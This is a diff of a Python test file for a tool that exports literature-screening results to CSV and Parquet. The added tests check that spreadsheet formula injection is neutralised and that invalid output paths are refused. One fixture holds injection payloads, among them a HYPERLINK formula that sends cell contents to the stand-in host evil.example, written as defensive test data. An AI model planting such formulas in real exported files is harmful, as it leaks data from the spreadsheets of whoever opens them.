@@ -128,7 +128,7 @@ def test_an_unscreened_workspace_exports_a_header_and_creates_no_database(tmp_pa
     w = make_workspace(tmp_path / "ws", "http://127.0.0.1:9/v1", screen=2)
     out = tmp_path / "h.csv"
     assert export_release(w["ws"], w["release_dir"], out) == 0
-    assert out.read_text().splitlines()[0].startswith('"work_id","source","title","abstract","year","pile"')
+    assert out.read_text().splitlines()[0].startswith("work_id,source,title,abstract,year,pile")
     assert not (w["root"] / "state").exists()
 
 
@@ -147,3 +147,43 @@ def test_screen_columns_and_write_export_alone(tmp_path):
     assert '"[""a"",""b""]"' in (tmp_path / "n.csv").read_text(), "nested values as JSON text in CSV"
     with pytest.raises(InputError, match=".csv or .parquet"):
         write_export(nested, tmp_path / "n.json")
+
+
+FORMULAS = {"W001": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "W002": "+1+1", "W003": "-2+3",
+            "W004": "@SUM(A1:A9)", "W005": "\tTab first", "W006": "\rCR first"}
+
+
+def test_the_csv_hand_off_neutralises_formulas_as_the_site_does(tmp_path):
+    from reporter.csvcells import csv_bytes
+
+    def script(work: str, model: str, attempt: int):
+        if work in FORMULAS:
+            return Answer("include", FORMULAS[work])
+        return Answer("include", "\ud800 lone")  # W007: a reason no UTF-8 file can hold as it is
+
+    with FakeOpenAI(script) as server:
+        w = make_workspace(tmp_path / "ws", server.base_url, screen=7, cheap_voters=False)
+        server.titles = w["titles"]
+        screen(w)
+    out, parquet = tmp_path / "h.csv", tmp_path / "h.parquet"
+    assert export_release(w["ws"], w["release_dir"], out) == 7
+    assert export_release(w["ws"], w["release_dir"], parquet) == 7
+    with open(out, newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    for row in rows:
+        work = row["work_id"].removeprefix(PREFIX)
+        want = "'" + FORMULAS[work] if work in FORMULAS else "\\ud800 lone"
+        assert row["screen_voter1_reason"] == row["screen_voter2_reason"] == want
+    table = pq.read_table(parquet)
+    assert out.read_bytes() == csv_bytes(table.schema.names, [tuple(r.values()) for r in table.to_pylist()]), \
+        "the very bytes the site's CSV writer gives"
+    assert table.column("screen_voter1_reason").to_pylist()[0] == FORMULAS["W001"], "Parquet keeps the text"
+
+
+def test_out_naming_a_folder_a_link_a_fifo_a_device_or_a_missing_folder_is_refused(screened, tmp_path, capsys):
+    from test_files import assert_untouched, out_targets
+    for kind, (path, message) in out_targets(tmp_path, "handoff.csv").items():
+        assert main(["export", "--workspace", str(screened["root"]), "--out", str(path)]) == 2, kind
+        err = capsys.readouterr().err
+        assert f"--out {path}" in err and message in err and "Traceback" not in err, kind
+    assert_untouched(tmp_path)
